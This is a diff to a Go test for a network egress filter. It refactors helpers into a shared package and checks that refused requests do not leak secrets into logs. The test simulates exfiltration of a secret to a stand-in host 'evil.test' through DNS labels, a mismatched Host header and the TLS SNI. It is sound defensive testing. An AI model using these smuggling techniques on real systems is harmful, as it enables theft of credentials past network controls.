@@ -3,7 +3,9 @@ package netfilter
 import (
 	"github.com/vibedom/vibedom/logredact"
 	"github.com/vibedom/vibedom/netfilter/egress"
+	"github.com/vibedom/vibedom/netfilter/internal/mitmtest"
 	"github.com/vibedom/vibedom/netfilter/internal/stacktest"
+	"github.com/vibedom/vibedom/netfilter/mitm"
 	"github.com/vibedom/vibedom/netfilter/netstack"
 
 	"bufio"
@@ -50,11 +52,11 @@ func TestRefusedRequestSecretsNotLogged(t *testing.T) {
 	logger := slog.New(rh).With("session", "t")
 	rh.SetRedactor(redact)
 
-	v := newTestEnv(t, testRules, func(c *EngineConfig) { c.Logger = logger.With("part", "proxy") })
+	v := newTestEnv(t, mitmtest.Rules, func(c *mitm.EngineConfig) { c.Logger = logger.With("part", "proxy") })
 	v.log.SetRedactor(redact)
-	v.upstreamTLS("api.test", 443, v.upCA, http.HandlerFunc(echoInfo))
-	v.upstreamPlain("plain.test", 80, http.HandlerFunc(echoInfo))
-	proxy := v.proxyListener()
+	v.UpstreamTLS("api.test", 443, v.UpCA, http.HandlerFunc(mitmtest.EchoInfo))
+	v.UpstreamPlain("plain.test", 80, http.HandlerFunc(mitmtest.EchoInfo))
+	proxy := v.ProxyListener()
 
 	b64 := base64.StdEncoding.EncodeToString([]byte(secret))
 	b64url := base64.RawURLEncoding.EncodeToString([]byte(secret))
@@ -62,7 +64,7 @@ func TestRefusedRequestSecretsNotLogged(t *testing.T) {
 	forbidden := []string{secret, b64, strings.TrimRight(b64, "="), b64url, hx, strings.ToUpper(hx), url.QueryEscape(b64), mixed}
 
 	// DNS: the raw secret and its hex form as labels under a refused name.
-	n := startEngineNet(t, netstack.StackConfig{Resolver: &stacktest.Resolver{}}, v.policy, v.eng, egress.EventSinkFunc(func(e egress.Event) { v.log.Record(e); v.events.Record(e) }), logger.With("part", "network"))
+	n := startEngineNet(t, netstack.StackConfig{Resolver: &stacktest.Resolver{}}, v.Policy, v.Eng, egress.EventSinkFunc(func(e egress.Event) { v.log.Record(e); v.Events.Record(e) }), logger.With("part", "network"))
 	g := n.guest(t)
 	for _, name := range []string{secret + ".evil.test", hx + ".evil.test", "x." + strings.ToUpper(secret) + ".evil.test", "a." + mixed + ".evil.test"} {
 		g.Lookup(t, name+".", dnsmessage.TypeA)
@@ -93,7 +95,7 @@ func TestRefusedRequestSecretsNotLogged(t *testing.T) {
 
 	// A Host header that disagrees with the admitted name, carrying the
 	// secret in the name, the path and the query.
-	c := &http.Client{Transport: v.guestTransport(false)}
+	c := &http.Client{Transport: v.GuestTransport(false)}
 	hreq, _ := http.NewRequestWithContext(t.Context(), "GET", "http://plain.test/x/"+secret+"?k="+b64, nil)
 	hreq.Host = secret + ".evil.test"
 	if resp, err := c.Do(hreq); err == nil {
@@ -101,8 +103,8 @@ func TestRefusedRequestSecretsNotLogged(t *testing.T) {
 	}
 
 	// SNI naming the secret on a connection admitted for api.test.
-	conn := v.guestConn("api.test", 443)
-	tc := tls.Client(conn, &tls.Config{ServerName: secret + ".evil.test", RootCAs: v.ca.Pool()})
+	conn := v.GuestConn("api.test", 443)
+	tc := tls.Client(conn, &tls.Config{ServerName: secret + ".evil.test", RootCAs: v.CA.Pool()})
 	if err := tc.HandshakeContext(t.Context()); err == nil {
 		t.Fatal("handshake with a mismatched SNI succeeded")
 	}
@@ -114,7 +116,7 @@ func TestRefusedRequestSecretsNotLogged(t *testing.T) {
 	deadline := time.Now().Add(time.Minute)
 	for {
 		got := 0
-		for _, e := range v.events.all() {
+		for _, e := range v.Events.All() {
 			if e.Decision == "deny" {
 				got++
 			}
@@ -123,7 +125,7 @@ func TestRefusedRequestSecretsNotLogged(t *testing.T) {
 			break
 		}
 		if time.Now().After(deadline) {
-			t.Fatalf("refusals recorded: %d, want at least %d: %+v", got, want, v.events.all())
+			t.Fatalf("refusals recorded: %d, want at least %d: %+v", got, want, v.Events.All())
 		}
 		time.Sleep(10 * time.Millisecond)
 	}
